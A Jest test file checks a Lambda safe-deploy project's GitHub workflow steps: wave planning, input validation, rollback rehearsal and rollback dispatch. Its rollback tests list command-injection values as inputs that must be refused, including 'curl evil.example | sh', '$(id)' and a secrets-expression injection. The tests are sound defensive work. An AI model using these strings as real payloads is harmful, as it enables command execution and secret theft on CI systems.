// The shell and node snippets inside our workflows, run as the runner runs them (run-step.ts).
import { describe, it, expect, beforeAll } from '@jest/globals';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'yaml';
import { FAKE_YQ, parseOutputs, runStep, workflowStep } from './run-step.js';

const root = process.cwd();
const PIPELINE = join(root, '.github/workflows/pipeline.yml');
const DEPLOY_STAGE = join(root, '.github/workflows/deploy-stage.yml');
const SENTINEL = join(root, '.github/workflows/sentinel.yml');
const ROLLBACK = join(root, '.github/workflows/rollback.yml');
const EXAMPLE = 'examples/orders/safe-deploy.yml';

/**
 * Runs the plan action as the runner does and returns its outputs: the committed bundle, or its
 * source through tsx while a rebuild has emptied dist/plan.
 */
function planOutputs(config: string): Record<string, string> {
  const dir = mkdtempSync(join(tmpdir(), 'safe-deploy-plan-'));
  const output = join(dir, 'output');
  const summary = join(dir, 'summary');
  writeFileSync(output, '');
  writeFileSync(summary, '');
  const bundle = join(root, 'dist/plan/index.js');
  const args = existsSync(bundle) ? [bundle] : [join(root, 'node_modules/tsx/dist/cli.mjs'), 'actions/plan/src/index.ts'];
  const result = spawnSync(process.execPath, args, {
    cwd: root,
    encoding: 'utf8',
    env: { PATH: process.env.PATH, INPUT_CONFIG: config, GITHUB_OUTPUT: output, GITHUB_STEP_SUMMARY: summary },
  });
  expect(result.status).toBe(0);
  return parseOutputs(readFileSync(output, 'utf8'));
}

describe('pipeline.yml: the waves step turns the plan into deploy-stage inputs', () => {
  const step = workflowStep(PIPELINE, 'plan', 'waves');
  let plan: Record<string, string>;
  let waves: Array<Record<string, unknown>>;
  const baseEnv = () => ({
    WAVES: plan.waves ?? '',
    CONFIG: EXAMPLE,
    PRE_TRAFFIC_TEST: '',
    POST_TRAFFIC_TEST: 'npm run smoke',
    REHEARSE_STAGE: 'gamma',
    VERIFY_SUFFIX: '-verify',
    MAX_WAVES: '16',
  });

  beforeAll(() => {
    plan = planOutputs(EXAMPLE);
    const result = runStep(step, baseEnv(), { bin: { yq: FAKE_YQ } });
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    waves = JSON.parse(result.outputs.waves ?? 'null');
    expect(result.outputs.count).toBe(String(waves.length));
    expect(result.outputs.service).toBe('orders');
  });

  it('keeps every wave of the plan, in order', () => {
    const planned = JSON.parse(plan.waves ?? '[]') as Array<{ wave: string }>;
    expect(waves.map((w) => w.wave)).toEqual(planned.map((w) => w.wave));
    expect(waves.map((w) => w.wave).slice(0, 6)).toEqual(['alpha-1', 'beta-1', 'gamma-onebox', 'gamma-1', 'gamma-2', 'prod-onebox']);
  });

  it('gives every key pipeline.yml reads from a wave, for every wave', () => {
    const text = readFileSync(PIPELINE, 'utf8');
    const used = [...new Set([...text.matchAll(/fromJSON\(needs\.plan\.outputs\.waves\)\[\d+\]\.([A-Za-z0-9]+)/g)].map((m) => m[1] as string))];
    expect(used.length).toBeGreaterThan(15);
    for (const wave of waves) for (const key of used) expect(wave).toHaveProperty(key);
  });

  it('fills the service-wide settings from the config and the stage settings from the plan', () => {
    const byId = Object.fromEntries(waves.map((w) => [w.wave, w]));
    expect(byId['alpha-1']).toMatchObject({
      environment: 'alpha',
      regions: 'us-west-2',
      traffic: '100%',
      functions: 'orders-api,orders-worker',
      alias: 'live',
      blockAlarms: 'orders-high-severity',
      rollbackAlarms: 'orders-high-severity,prefix:orders-',
      maxErrorRate: '', // the one-box bounds apply to one-box waves
      maxP99Duration: '',
      bakeDuration: '10m',
      bakeMinInvocations: '50',
      bakeMode: 'watch',
      bakeMetricsDelay: '3m', // the plan's default, passed on as bake-metrics-delay
      postTrafficTest: 'npm run test:integration', // the stage's own tests win
      rehearseRollback: false,
    });
    expect(byId['beta-1']?.postTrafficTest).toBe('npm run smoke');
    expect(byId['prod-onebox']).toMatchObject({ regions: 'us-west-1', traffic: '5%', bakeDuration: '1h', verifyEnvironment: '', maxErrorRate: '1%', maxP99Duration: '800ms' });
    expect(byId['gamma-onebox']).toMatchObject({ traffic: '10%', maxErrorRate: '1%', maxP99Duration: '800ms' });
  });

  it('sends a verify bake to the `<environment>-verify` environment', () => {
    const prod1 = waves.find((w) => w.wave === 'prod-1');
    expect(prod1).toMatchObject({ bakeMode: 'verify', bakeDuration: '12h', verifyEnvironment: 'prod-verify' });
  });

  it('rehearses the rollback in the first wave of the chosen stage only', () => {
    expect(waves.filter((w) => w.rehearseRollback).map((w) => w.wave)).toEqual(['gamma-onebox']);
  });

  it('reads the config the same way with the yq of this machine (or python3) as with mikefarah yq', () => {
    const local = runStep(step, baseEnv());
    expect(local.status).toBe(0);
    expect(JSON.parse(local.outputs.waves ?? 'null')).toEqual(waves);
  });

  it('keeps a watch bake inside the 6 hours of a hosted job', () => {
    const planned = JSON.parse(plan.waves ?? '[]') as Array<Record<string, unknown>>;
    const rest = waves.find((w) => w.wave === 'prod-2');
    expect(rest).toMatchObject({ bakeDuration: '3h', bakeMode: 'watch', bakeMaxWait: '5h30m' }); // the plan says 9h
    expect(planned.find((w) => w.wave === 'prod-2')?.['max-wait']).toBe('9h');
    expect(waves.find((w) => w.wave === 'prod-1')?.bakeMaxWait).toBe('1d12h'); // verify: checked after the wait timer
    const long = JSON.stringify(planned.map((w) => (w.wave === 'prod-2' ? { ...w, duration: '7h' } : w)));
    const result = runStep(step, { ...baseEnv(), WAVES: long }, { bin: { yq: FAKE_YQ } });
    expect(result.status).toBe(1);
    expect(result.stdout).toContain('wave prod-2: a watch bake of 7h cannot finish inside a hosted job (6h); give it mode: verify');
    expect(result.outputs).toEqual({});
  });

  it('a push run with loop-stage stops before that stage (the control loop moves it)', () => {
    const result = runStep(step, { ...baseEnv(), LOOP_STAGE: 'prod' }, { bin: { yq: FAKE_YQ } });
    expect(result.status).toBe(0);
    const out = JSON.parse(result.outputs.waves ?? '[]') as Array<{ wave: string }>;
    expect(out.map((w) => w.wave)).toEqual(['alpha-1', 'beta-1', 'gamma-onebox', 'gamma-1', 'gamma-2']);
  });

  it('a loop run deploys only its waves: one shift, the bake left to the guardian under a lease that outlasts it', () => {
    const result = runStep(step, { ...baseEnv(), ONLY_WAVES: 'prod-1', REHEARSE_STAGE: 'prod' }, { bin: { yq: FAKE_YQ } });
    expect(result.status).toBe(0);
    const out = JSON.parse(result.outputs.waves ?? '[]') as Array<Record<string, unknown>>;
    // 12 h is far beyond a hosted job, and no wait timer or verify environment is involved.
    expect(out).toEqual([expect.objectContaining({ wave: 'prod-1', bakeMode: 'later', bakeDuration: '12h', lease: '840m', verifyEnvironment: '', rehearseRollback: false })]);
    expect(result.outputs.count).toBe('1');
  });

  it('refuses loop inputs that name no wave or stage of the plan', () => {
    const wave = runStep(step, { ...baseEnv(), ONLY_WAVES: 'prod-9' }, { bin: { yq: FAKE_YQ } });
    expect(wave.status).toBe(1);
    expect(wave.stdout).toContain('input only-waves: prod-9 is not a wave of the plan');
    const stage = runStep(step, { ...baseEnv(), LOOP_STAGE: 'production' }, { bin: { yq: FAKE_YQ } });
    expect(stage.status).toBe(1);
    expect(stage.stdout).toContain('input loop-stage: production is not a stage of the config');
  });

  it('refuses a plan with more waves than the pipeline has jobs', () => {
    const many = JSON.stringify(Array.from({ length: 17 }, (_, i) => ({ ...JSON.parse(plan.waves ?? '[]')[0], wave: `prod-${i + 1}` })));
    const result = runStep(step, { ...baseEnv(), WAVES: many }, { bin: { yq: FAKE_YQ } });
    expect(result.status).toBe(1);
    expect(result.stdout).toContain('the plan has 17 waves; pipeline.yml runs at most 16');
    expect(result.outputs).toEqual({});
  });

  it('has one deploy job per possible wave, each needing the one before', () => {
    const doc = parse(readFileSync(PIPELINE, 'utf8')) as { jobs: Record<string, { needs?: string[]; uses?: string }> };
    for (let i = 1; i <= 16; i++) {
      const id = `wave-${String(i).padStart(2, '0')}`;
      const job = doc.jobs[id];
      expect(job?.uses).toBe('$/.github/workflows/deploy-stage.yml');
      expect(job?.needs).toContain(i === 1 ? 'build' : `wave-${String(i - 1).padStart(2, '0')}`);
    }
  });
});

describe('deploy-stage.yml snippets', () => {
  const check = workflowStep(DEPLOY_STAGE, 'deploy', 'check-inputs');
  const valid = { BAKE_MODE: 'watch', PROMOTE: 'false', PROMOTE_BAKE_DURATION: '', PROMOTE_BAKE_MODE: 'watch', VERIFY_ENVIRONMENT: '', ZIP_FILE: '', ARTIFACT: '' };

  it('check-inputs accepts a plain wave and refuses contradictions, naming the input', () => {
    expect(runStep(check, valid).status).toBe(0);
    const cases: Array<[Record<string, string>, string]> = [
      [{ BAKE_MODE: 'sometimes' }, 'input bake-mode'],
      [{ PROMOTE: 'true' }, 'input promote-bake-duration: required with promote'],
      [{ PROMOTE: 'true', PROMOTE_BAKE_DURATION: '1h', BAKE_MODE: 'verify', VERIFY_ENVIRONMENT: 'prod-verify' }, 'input bake-mode: verify is only possible for the last bake'],
      [{ BAKE_MODE: 'verify' }, 'input verify-environment: required'],
      [{ ARTIFACT: 'safe-deploy-package' }, 'input zip-file: required with artifact'],
    ];
    for (const [change, message] of cases) {
      const result = runStep(check, { ...valid, ...change });
      expect(result.status).toBe(1);
      expect(result.stdout).toContain(message);
    }
    expect(runStep(check, { ...valid, BAKE_MODE: 'verify', VERIFY_ENVIRONMENT: 'prod-verify' }).status).toBe(0);
  });

  const deployment = {
    format: 1,
    alias: 'live',
    commit: 'abc',
    run: '1',
    traffic: 0,
    shiftedAt: '2026-11-26T07:00:00Z',
    targets: [
      { region: 'us-west-2', function: 'orders-api', alias: 'live', stable: '3', candidate: '4', weight: 0, revision: null, record: '' },
      { region: 'cn-north-1', function: 'orders-api', alias: 'live', stable: '7', candidate: '8', weight: 0, revision: null, record: '' },
    ],
  };

  it('candidates gives each candidate its qualified ARN, in the right partition', () => {
    const result = runStep(workflowStep(DEPLOY_STAGE, 'deploy', 'candidates'), { DEPLOYMENT: JSON.stringify(deployment), AWS_ACCOUNT: '123456789012' });
    expect(result.status).toBe(0);
    expect(result.outputs.arns).toBe('arn:aws:lambda:us-west-2:123456789012:function:orders-api:4,arn:aws-cn:lambda:cn-north-1:123456789012:function:orders-api:8');
  });

  it('the test steps hand the command to bash through env, with the candidate ARNs', () => {
    const step = workflowStep(DEPLOY_STAGE, 'deploy', 'pre-traffic-test');
    const ok = runStep(step, { SAFE_DEPLOY_TEST_COMMAND: 'echo "testing $SAFE_DEPLOY_CANDIDATE_ARNS"; test -n "$SAFE_DEPLOY_STAGE"', SAFE_DEPLOY_CANDIDATE_ARNS: 'arn:x', SAFE_DEPLOY_STAGE: 'gamma' });
    expect(ok.status).toBe(0);
    expect(ok.stdout).toContain('testing arn:x');
    expect(runStep(step, { SAFE_DEPLOY_TEST_COMMAND: 'false; echo not reached' }).status).toBe(1);
  });

  it('rehearse-verify passes only when every shifted alias was rolled back to its stable version', () => {
    const step = workflowStep(DEPLOY_STAGE, 'deploy', 'rehearse-verify');
    const shifted = { ...deployment, targets: deployment.targets.map((t) => ({ ...t, weight: 0.1 })) };
    const both = [
      { region: 'us-west-2', function: 'orders-api', from: '3', to: '3' },
      { region: 'cn-north-1', function: 'orders-api', from: '7', to: '7' },
    ];
    expect(runStep(step, { DEPLOYMENT: JSON.stringify(shifted), ROLLED_BACK: JSON.stringify(both) }).status).toBe(0);
    const one = runStep(step, { DEPLOYMENT: JSON.stringify(shifted), ROLLED_BACK: JSON.stringify(both.slice(0, 1)) });
    expect(one.status).toBe(1);
    expect(one.stdout).toContain('cn-north-1/orders-api: expected a rollback to 7, got no change');
  });
});

describe('sentinel.yml', () => {
  // The scan is the sentinel action (the guardian's sweep), tested on moto in test/e2e/sentinel.test.ts;
  // the workflow carries no script of its own that could parse a record loosely (S1, I3).
  const workflow = parse(readFileSync(SENTINEL, 'utf8')) as { jobs: Record<string, { steps: Array<Record<string, unknown>> }> };

  it('runs no inline script: both jobs call the sentinel action', () => {
    const steps = Object.values(workflow.jobs).flatMap((job) => job.steps);
    expect(steps.filter((s) => 'run' in s)).toEqual([]);
    expect(workflow.jobs.targets?.steps.find((s) => s.id === 'stages')).toMatchObject({ uses: '$/actions/sentinel', with: { 'targets-only': 'true' } });
    expect(workflow.jobs.watch?.steps.find((s) => s.id === 'sweep')).toMatchObject({
      uses: '$/actions/sentinel',
      env: { SAFE_DEPLOY_STOP_ALARMS: '${{ vars.SAFE_DEPLOY_STOP_ALARMS }}', SAFE_DEPLOY_STORE_PATH: '${{ vars.SAFE_DEPLOY_STORE_PATH }}' },
      with: { regions: "${{ join(matrix.target.regions, ',') }}" },
    });
  });
});

describe('rollback.yml: dispatch inputs are checked before anything runs', () => {
  const step = workflowStep(ROLLBACK, 'rollback', 'targets');
  const env = { CONFIG: EXAMPLE, REGIONS: 'us-west-1, us-east-2', FUNCTIONS: '', ALIAS: '', VERSION: 'previous', CONFIRM: '' };

  it('reads the functions and alias from the config when not given', () => {
    const result = runStep(step, env, { bin: { yq: FAKE_YQ } });
    expect(result.status).toBe(0);
    expect(result.outputs).toEqual({ regions: 'us-west-1, us-east-2', functions: 'orders-api,orders-worker', alias: 'live', version: 'previous', confirm: '' });
  });

  it('passes a confirm-unvetted that repeats the version on to the action', () => {
    const result = runStep(step, { ...env, VERSION: '41', CONFIRM: '41' }, { bin: { yq: FAKE_YQ } });
    expect(result.status).toBe(0);
    expect(result.outputs).toMatchObject({ version: '41', confirm: '41' });
  });

  it.each([
    ['REGIONS', 'us-west-1; curl evil.example | sh', 'input regions'],
    ['REGIONS', 'us-west-1\nfunctions=attacker', 'input regions'],
    ['FUNCTIONS', '$(id)', 'input functions'],
    ['FUNCTIONS', 'orders-api`id`', 'input functions'],
    ['ALIAS', 'live";id;#', 'input alias'],
    ['VERSION', '${{ secrets.X }}', 'input version'],
    ['VERSION', '3 && id', 'input version'],
    // A newline is not a blank: `[[:space:]]` let it through and GITHUB_OUTPUT got a bare second line.
    ['REGIONS', 'us-east-1\n,us-west-2', 'input regions'],
    ['REGIONS', 'us-east-1\r, us-west-2', 'input regions'],
    ['CONFIRM', '41; id', 'input confirm-unvetted'],
    ['CONFIRM', '40', "input confirm-unvetted: '40' does not repeat input version '41'"],
  ])('refuses %s=%j and writes no output', (name, value, message) => {
    const result = runStep(step, { ...env, FUNCTIONS: 'orders-api', ALIAS: 'live', ...(name === 'CONFIRM' ? { VERSION: '41' } : {}), [name]: value }, { bin: { yq: FAKE_YQ } });
    expect(result.status).toBe(1);
    expect(result.stdout).toContain(message);
    expect(result.outputs).toEqual({});
  });
});
